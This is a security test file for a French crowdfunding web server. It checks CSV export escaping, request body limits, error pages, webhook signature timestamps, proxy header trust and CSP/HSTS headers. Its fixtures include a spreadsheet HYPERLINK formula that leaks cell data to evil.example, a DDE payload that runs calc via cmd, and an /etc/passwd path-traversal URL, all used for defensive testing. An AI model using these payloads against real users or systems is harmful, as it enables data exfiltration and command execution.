/**
 * Hardening of the built server (issue 12), as an attacker would try it with raw HTTP:
 * formula injection in every CSV, body limits enforced while reading (chunked bodies),
 * French pages for every error, webhook timestamps bounded both ways, forwarded headers
 * trusted only as configured, and the production headers (HSTS, a CSP with a nonce).
 */
import fs from "node:fs";
import http from "node:http";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { makeEvent } from "~/demo/stripe-api.server";
import { signPayload } from "~/demo/stripe-webhooks.server";
import { DEMO_WEBHOOK_SECRET } from "~/payments/stripe.server";
import { tempDatabasePath, withDatabaseFile } from "../support/db";
import { httpClient } from "../support/http-session";
import { freePort, PRODUCTION_LEGAL_ENV, startServer, type RunningServer } from "../support/server";

let server: RunningServer;
let tmp: ReturnType<typeof tempDatabasePath>;
let client: ReturnType<typeof httpClient>;

beforeAll(async () => {
  tmp = tempDatabasePath("hardening");
  const outbox = path.join(path.dirname(tmp.file), "outbox.jsonl");
  const port = await freePort();
  server = await startServer(
    {
      DATABASE_PATH: tmp.file,
      DEMO_OUTBOX_PATH: outbox,
      PUBLIC_URL: `http://127.0.0.1:${port}`,
      SETTLE_INTERVAL_SECONDS: "0",
      TRUST_PROXY: "0",
    },
    { port },
  );
  client = httpClient(server, outbox);
});

afterAll(async () => {
  await server?.stop();
  tmp?.cleanup();
});

interface RawAnswer {
  status: number;
  headers: http.IncomingHttpHeaders;
  body: string;
}

/** A request exactly as written (fetch would normalise the path). */
function raw(
  method: string,
  target: string,
  headers: Record<string, string> = {},
  body?: string,
): Promise<RawAnswer> {
  return new Promise((resolve, reject) => {
    const req = http.request(
      { host: "127.0.0.1", port: server.port, method, path: target, headers, insecureHTTPParser: false },
      (res) => {
        let text = "";
        res.setEncoding("utf8");
        res.on("data", (d) => (text += d));
        res.on("end", () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: text }));
      },
    );
    req.on("error", reject);
    req.end(body);
  });
}

/**
 * Send `total` bytes as a chunked body (no Content-Length), respecting backpressure, and stop
 * as soon as the server answers. `written` is how much the server let us send.
 */
function chunkedPost(
  target: string,
  headers: Record<string, string>,
  body: Buffer | { total: number; fill: string },
): Promise<RawAnswer & { written: number }> {
  return new Promise((resolve, reject) => {
    let written = 0;
    let answered = false;
    const req = http.request({
      host: "127.0.0.1",
      port: server.port,
      method: "POST",
      path: target,
      headers: { ...headers, "transfer-encoding": "chunked" },
    });
    req.on("response", (res) => {
      answered = true;
      let text = "";
      res.setEncoding("utf8");
      res.on("data", (d) => (text += d));
      res.on("end", () =>
        resolve({ status: res.statusCode ?? 0, headers: res.headers, body: text, written }),
      );
      res.on("error", reject);
    });
    req.on("error", (error) => {
      if (!answered) reject(error);
    });
    const total = Buffer.isBuffer(body) ? body.length : body.total;
    const piece = Buffer.alloc(64 * 1024, Buffer.isBuffer(body) ? "x" : body.fill);
    const pump = () => {
      while (!answered && written < total) {
        const chunk = Buffer.isBuffer(body)
          ? body.subarray(written, written + piece.length)
          : piece.subarray(0, Math.min(piece.length, total - written));
        written += chunk.length;
        if (!req.write(chunk)) return void req.once("drain", pump);
      }
      if (!answered) req.end();
    };
    pump();
  });
}

/** Resident memory of the server process, in bytes (current and peak). */
function serverMemory(): { rss: number; peak: number } {
  const status = fs.readFileSync(`/proc/${server.process.pid}/status`, "utf8");
  const kb = (name: string) => Number(new RegExp(`^${name}:\\s+(\\d+) kB`, "m").exec(status)![1]) * 1024;
  return { rss: kb("VmRSS"), peak: kb("VmHWM") };
}

const storedEvents = (id: string) =>
  withDatabaseFile(
    tmp.file,
    (db) => (db.prepare("select count(*) n from stripe_events where id = ?").get(id) as { n: number }).n,
  );

function expectFrenchPage(answer: RawAnswer, context: string, error = true) {
  if (error) expect(answer.status, context).toBeGreaterThanOrEqual(400);
  expect(answer.status, context).toBeLessThan(500);
  expect(String(answer.headers["content-type"]), context).toMatch(/^text\/html; charset=utf-8/);
  expect(answer.body, context).toMatch(/<html lang="fr"/);
  expect(answer.body, context).not.toMatch(/Bad Request|Not Found|Cannot GET|URIError|Error:/);
  expect(answer.body, context).toMatch(/Propulsons/);
}

/** A cell French Excel would run as a formula (OWASP: = + - @ tab CR, and their full-width forms). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

describe("CSV exports never carry a live formula", () => {
  const hostileName = '=HYPERLINK("http://evil.example/?leak="&A2;"Voir")';
  const hostileMessages = ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1"];

  it("the holder's export prefixes names and messages that start like a formula", async () => {
    const row = withDatabaseFile(tmp.file, (db) => {
      const r = db
        .prepare(
          `select c.id, u.email from campaigns c join organizations o on o.id = c.organization_id
             join users u on u.id = o.owner_user_id
            where c.status = 'live'
              and (select count(*) from contributions k where k.campaign_id = c.id and k.status = 'paid'
                   and k.anonymous = 0) >= 6
            order by c.id limit 1`,
        )
        .get() as { id: number; email: string };
      const ids = (
        db
          .prepare(
            "select id from contributions where campaign_id = ? and status = 'paid' and anonymous = 0 order by id limit 6",
          )
          .all(r.id) as Array<{ id: number }>
      ).map((k) => k.id);
      db.prepare("update contributions set public_name = ?, message = ? where id = ?").run(
        hostileName,
        "=1+1",
        ids[0],
      );
      hostileMessages.forEach((m, i) =>
        db.prepare("update contributions set message = ? where id = ?").run(m, ids[i + 1]),
      );
      return r;
    });
    const owner = await client.signIn(row.email);
    const csv = await client.call("GET", `/porteur/campagnes/${row.id}/contributions.csv`, { cookie: owner });
    expect(csv.status).toBe(200);
    const records = parse(csv.body.replace(/^\ufeff/, ""), { delimiter: ";", columns: true }) as Array<
      Record<string, string>
    >;
    const names = records.map((r) => r["Nom"]!);
    const messages = records.map((r) => r["Message"]!);
    expect(names).toContain(`'${hostileName}`);
    for (const m of ["=1+1", ...hostileMessages]) expect(messages).toContain(`'${m}`);
    for (const r of records) {
      for (const [column, cell] of Object.entries(r)) {
        expect(cell, `${column}: ${JSON.stringify(cell)}`).not.toMatch(FORMULA_START);
      }
      // Amounts stay numbers French Excel reads as such.
      expect(r["Montant (€)"]).toMatch(/^\d+,\d{2}$/);
    }
  });

  it("the open data prefixes campaign and organisation texts that start like a formula", async () => {
    withDatabaseFile(tmp.file, (db) => {
      const c = db
        .prepare("select id, organization_id from campaigns where status = 'funded' order by id limit 1")
        .get() as { id: number; organization_id: number };
      db.prepare("update campaigns set title = ? where id = ?").run("=1+1", c.id);
      db.prepare("update organizations set name = ? where id = ?").run("@SUM(A1:A9)", c.organization_id);
    });
    const answer = await raw("GET", "/donnees/campagnes.csv");
    expect(answer.status).toBe(200);
    const records = parse(answer.body, { columns: true }) as Array<Record<string, string>>;
    expect(records.map((r) => r["titre"])).toContain("'=1+1");
    expect(records.map((r) => r["structure"])).toContain("'@SUM(A1:A9)");
    for (const r of records) {
      for (const [column, cell] of Object.entries(r)) {
        expect(cell, `${column}: ${JSON.stringify(cell)}`).not.toMatch(FORMULA_START);
      }
    }
    const figures = parse((await raw("GET", "/donnees/chiffres.csv")).body, { columns: true }) as Array<
      Record<string, string>
    >;
    expect(figures.length).toBeGreaterThan(1);
    for (const r of figures) expect(r["collecte_euros"]).toMatch(/^\d+\.\d{2}$/);
  });
});

describe("body limits are enforced while the body is read", () => {
  it("a 50 MB chunked unsigned webhook body: 413 in French, reading stopped, memory flat", async () => {
    const before = serverMemory();
    const answer = await chunkedPost(
      "/webhooks/stripe",
      { "content-type": "application/json" },
      { total: 50 * 1024 * 1024, fill: "a" },
    );
    const after = serverMemory();
    expect(answer.status).toBe(413);
    expect(answer.body).toContain("trop volumineuse");
    // The server stopped reading: most of the body never left the client.
    expect(answer.written).toBeLessThan(20 * 1024 * 1024);
    expect(after.peak - before.rss, "peak memory growth").toBeLessThan(30 * 1024 * 1024);
  });

  it("a 3 MB chunked webhook correctly signed: 413, not processed", async () => {
    const event = makeEvent("customer.created", {
      id: "cus_chunked_big",
      object: "customer",
      description: "x".repeat(3 * 1024 * 1024),
    });
    const payload = Buffer.from(JSON.stringify(event));
    const answer = await chunkedPost(
      "/webhooks/stripe",
      {
        "content-type": "application/json",
        "stripe-signature": signPayload(payload.toString(), DEMO_WEBHOOK_SECRET),
      },
      payload,
    );
    expect(answer.status).toBe(413);
    expect(storedEvents(event.id), "nothing processed").toBe(0);
  });

  it("a chunked form bigger than a form can be: 413 French page, nothing processed", async () => {
    const answer = await chunkedPost(
      "/connexion",
      { "content-type": "application/x-www-form-urlencoded", origin: server.url },
      { total: 4 * 1024 * 1024, fill: "a" },
    );
    expect(answer.status).toBe(413);
    expect(answer.body).toMatch(/<html lang="fr"/);
    expect(answer.body).toContain("trop volumineuse");
  });

  it("an image upload has its larger limit, also while reading", async () => {
    const id = withDatabaseFile(
      tmp.file,
      (db) => (db.prepare("select id from campaigns order by id limit 1").get() as { id: number }).id,
    );
    const answer = await chunkedPost(
      `/porteur/campagnes/${id}`,
      { "content-type": "multipart/form-data; boundary=xyz", origin: server.url },
      { total: 12 * 1024 * 1024, fill: "b" },
    );
    expect(answer.status).toBe(413);
    expect(answer.body).toContain("trop volumineuse");
    // Below the image limit but above a form's, the upload route still reads the body.
    const form = await chunkedPost(
      `/porteur/campagnes/${id}`,
      { "content-type": "multipart/form-data; boundary=xyz", origin: server.url },
      { total: 2 * 1024 * 1024, fill: "b" },
    );
    expect(form.status).not.toBe(413);
  });

  it("an announced Content-Length over the limit is refused before reading", async () => {
    const answer = await raw(
      "POST",
      "/connexion",
      { "content-type": "application/x-www-form-urlencoded", "content-length": String(8 * 1024 * 1024) },
      "",
    ).catch((error: Error) => ({ status: 0, headers: {}, body: error.message }));
    expect(answer.status).toBe(413);
  });
});

describe("every error is a French page", () => {
  const hostile = [
    "/campagnes/%E0%A4%A",
    "/%",
    "/%zz",
    "/campagnes/%zz?x=%",
    "/..%2f",
    "/..%2f..%2f..%2fetc%2fpasswd",
    "/campagnes/%00",
    "/build/%E0%A4%A",
    "/favicon.svg%E0%A4%A",
    "/campagnes/%E0%A4%A?_data=root",
    "/webhooks/stripe%E0",
    "/" + "a".repeat(8000),
    "/campagnes/" + "%41".repeat(2000),
  ];
  for (const target of hostile) {
    it(`GET ${target.length > 60 ? target.slice(0, 40) + "…(" + target.length + ")" : target}`, async () => {
      expectFrenchPage(await raw("GET", target, { accept: "text/html" }), target);
    });
  }

  it("GET /%2e%2e/%2e%2e/ is the home page (dot segments resolve to /), never above it", async () => {
    const answer = await raw("GET", "/%2e%2e/%2e%2e/", { accept: "text/html" });
    expectFrenchPage(answer, "dot segments", false);
    expect(answer.status).toBe(200);
    expect(answer.body).toContain("Propulsez les projets solidaires du Pas-de-Calais");
  });

  it("a request line longer than Node accepts is a French 431, not an empty answer", async () => {
    const answer = await raw("GET", "/" + "a".repeat(20_000)).catch((error: Error) => ({
      status: 0,
      headers: {},
      body: error.message,
    }));
    expect(answer.status).toBe(431);
    expect(answer.body).toMatch(/<html lang="fr"/);
  });

  it("a POST with a malformed path is a French page too", async () => {
    expectFrenchPage(
      await raw(
        "POST",
        "/campagnes/%E0%A4%A",
        { "content-type": "application/x-www-form-urlencoded" },
        "a=1",
      ),
      "POST",
    );
  });
});

describe("webhook timestamps are bounded both ways", () => {
  const post = (payload: string, timestamp: number) =>
    fetch(`${server.url}/webhooks/stripe`, {
      method: "POST",
      headers: {
        "content-type": "application/json",
        "stripe-signature": signPayload(payload, DEMO_WEBHOOK_SECRET, timestamp),
      },
      body: payload,
    });
  const now = () => Math.floor(Date.now() / 1000);

  it("signed an hour ahead: 400, not processed", async () => {
    const event = makeEvent("customer.created", { id: "cus_future", object: "customer" });
    const res = await post(JSON.stringify(event), now() + 3600);
    expect(res.status).toBe(400);
    expect(await res.text()).toContain("Signature invalide");
    expect(storedEvents(event.id)).toBe(0);
  });

  it("signed an hour ago: 400, not processed", async () => {
    const event = makeEvent("customer.created", { id: "cus_past", object: "customer" });
    const res = await post(JSON.stringify(event), now() - 3600);
    expect(res.status).toBe(400);
    await res.arrayBuffer();
    expect(storedEvents(event.id)).toBe(0);
  });

  it("two timestamps in one header: 400", async () => {
    const event = makeEvent("customer.created", { id: "cus_two_t", object: "customer" });
    const payload = JSON.stringify(event);
    const signature = signPayload(payload, DEMO_WEBHOOK_SECRET, now());
    const res = await fetch(`${server.url}/webhooks/stripe`, {
      method: "POST",
      headers: { "content-type": "application/json", "stripe-signature": `t=${now() + 3600},${signature}` },
      body: payload,
    });
    expect(res.status).toBe(400);
    await res.arrayBuffer();
    expect(storedEvents(event.id)).toBe(0);
  });

  it("signed now (or a few seconds ahead, clock skew): 200, processed", async () => {
    const event = makeEvent("customer.created", { id: "cus_now", object: "customer" });
    const res = await post(JSON.stringify(event), now());
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ received: true, outcome: "ignored" });
    const skewed = makeEvent("customer.created", { id: "cus_skew", object: "customer" });
    const res2 = await post(JSON.stringify(skewed), now() + 20);
    expect(res2.status).toBe(200);
    await res2.arrayBuffer();
    expect(storedEvents(event.id)).toBe(1);
    expect(storedEvents(skewed.id)).toBe(1);
  });
});

describe("forwarded headers are trusted only as configured (TRUST_PROXY=0 here)", () => {
  const form = "email=personne%40example.org&retour=%2F";
  const formHeaders = { "content-type": "application/x-www-form-urlencoded" };

  it("a forged X-Forwarded-Host does not make a foreign Origin look like ours", async () => {
    const answer = await raw(
      "POST",
      "/connexion",
      { ...formHeaders, origin: "http://evil.example", "x-forwarded-host": "evil.example" },
      form,
    );
    expect(answer.status).toBe(403);
  });

  it("a forged X-Forwarded-Proto does not either", async () => {
    const host = `127.0.0.1:${server.port}`;
    const answer = await raw(
      "POST",
      "/connexion",
      { ...formHeaders, host, origin: `https://${host}`, "x-forwarded-proto": "https" },
      form,
    );
    expect(answer.status).toBe(403);
  });

  it("the real Origin still passes", async () => {
    const answer = await raw("POST", "/connexion", { ...formHeaders, origin: server.url }, form);
    expect(answer.status).toBe(200);
  });
});

/** The nonce of a page: in its CSP header, and on every script element of its body. */
function nonceOf(answer: { headers: Headers; body: string }): string {
  const csp = answer.headers.get("content-security-policy") ?? "";
  const scriptSrc = csp.split(";").find((d) => d.trim().startsWith("script-src")) ?? "";
  expect(scriptSrc).not.toContain("'unsafe-inline'");
  const m = /'nonce-([A-Za-z0-9+/=]+)'/.exec(scriptSrc);
  expect(m, `script-src with a nonce: ${csp}`).not.toBeNull();
  const nonce = m![1]!;
  const scripts = answer.body.match(/<script\b[^>]*>/g) ?? [];
  expect(scripts.length).toBeGreaterThan(0);
  for (const tag of scripts) expect(tag).toContain(`nonce="${nonce}"`);
  return nonce;
}

describe("a Content-Security-Policy with a nonce for scripts", () => {
  it("every page's scripts carry the nonce its policy names; each render draws a new one", async () => {
    const get = async (target: string, headers: Record<string, string> = {}) => {
      const res = await fetch(server.url + target, { headers });
      return { headers: res.headers, body: await res.text() };
    };
    // Two renders (two searches: the list redirects unknown parameters to its canonical URL).
    const a = await get("/campagnes?q=velo");
    const b = await get("/campagnes?q=jardin");
    expect(nonceOf(a)).not.toBe(nonceOf(b));
    // A page served again from the cache: header and body replay the same nonce, consistently.
    const again = await get("/campagnes?q=velo");
    expect(again.headers.get("x-page-cache")).toBe("hit");
    expect(nonceOf(again)).toBe(nonceOf(a));
    // Signed-in pages are never cached: a fresh nonce each time.
    const owner = await client.signIn("porteuse.hardening@example.org");
    const p1 = await get("/mon-compte", { cookie: owner });
    const p2 = await get("/mon-compte", { cookie: owner });
    expect(nonceOf(p1)).not.toBe(nonceOf(p2));
    // A French error page rendered by Remix has one too.
    const missing = await fetch(server.url + "/campagnes/nexiste-pas");
    expect(missing.status).toBe(404);
    nonceOf({ headers: missing.headers, body: await missing.text() });
  });

  it("development-like servers send no Strict-Transport-Security", async () => {
    const res = await fetch(server.url + "/");
    await res.arrayBuffer();
    expect(res.headers.get("strict-transport-security")).toBeNull();
  });
});

describe("in production", () => {
  let prod: RunningServer;
  let prodDb: ReturnType<typeof tempDatabasePath>;

  beforeAll(async () => {
    prodDb = tempDatabasePath("hardening-prod");
    prod = await startServer({
      DATABASE_PATH: prodDb.file,
      PROPULSONS_ENV: "production",
      ...PRODUCTION_LEGAL_ENV,
      STRIPE_SECRET_KEY: "sk_test_hardening_not_a_real_key",
      STRIPE_WEBHOOK_SECRET: "whsec_hardening",
      RESEND_API_KEY: "re_hardening_not_a_real_key",
      EMAIL_FROM: "Propulsons <ne-pas-repondre@propulsons.example>",
      PUBLIC_URL: "https://propulsons.example",
      CONTACT_EMAIL: "contact@propulsons.example",
      SEED_DEMO_DATA: "1",
      SETTLE_INTERVAL_SECONDS: "0",
      EMAIL_WORKER_INTERVAL_SECONDS: "3600",
    });
  });

  afterAll(async () => {
    await prod?.stop();
    prodDb?.cleanup();
  });

  it("sends Strict-Transport-Security for a year with subdomains, and the nonce CSP", async () => {
    for (const target of ["/", "/campagnes", "/campagnes/nexiste-pas", "/%E0%A4%A"]) {
      const res = await fetch(prod.url + target, { headers: { "x-forwarded-proto": "https" } });
      const body = await res.text();
      const hsts = res.headers.get("strict-transport-security") ?? "";
      expect(hsts, target).toMatch(/max-age=(\d+)/);
      expect(Number(/max-age=(\d+)/.exec(hsts)![1]), target).toBeGreaterThanOrEqual(31_536_000);
      expect(hsts, target).toContain("includeSubDomains");
      if (res.status !== 400) nonceOf({ headers: res.headers, body });
      else expect(body).toMatch(/<html lang="fr"/);
    }
  });
});
